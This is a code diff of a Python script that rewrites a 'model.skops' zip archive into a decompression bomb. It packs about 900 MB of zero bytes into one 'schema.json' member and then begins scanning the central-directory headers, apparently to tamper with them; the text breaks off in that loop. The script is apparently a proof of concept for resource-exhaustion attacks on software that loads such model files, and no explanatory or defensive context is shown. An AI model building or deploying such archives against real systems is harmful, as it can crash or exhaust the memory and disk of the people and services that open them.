@@ -5,11 +5,10 @@ import zipfile
 file = next(pathlib.Path().rglob("model.skops"))
 with zipfile.ZipFile(file) as archive:
     members = {name: archive.read(name) for name in archive.namelist()}
-with zipfile.ZipFile(file, "w", zipfile.ZIP_BZIP2) as archive:
-    for name in members:
-        with archive.open(name, "w") as member:
-            for _ in range(20):
-                member.write(bytes(100_000_000))
+with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
+    with archive.open("schema.json", "w") as member:
+        for _ in range(9):
+            member.write(bytes(100_000_000))
 raw = bytearray(file.read_bytes())
 for at in range(len(raw) - 4):
     if raw[at : at + 4] == b"PK\x01\x02":
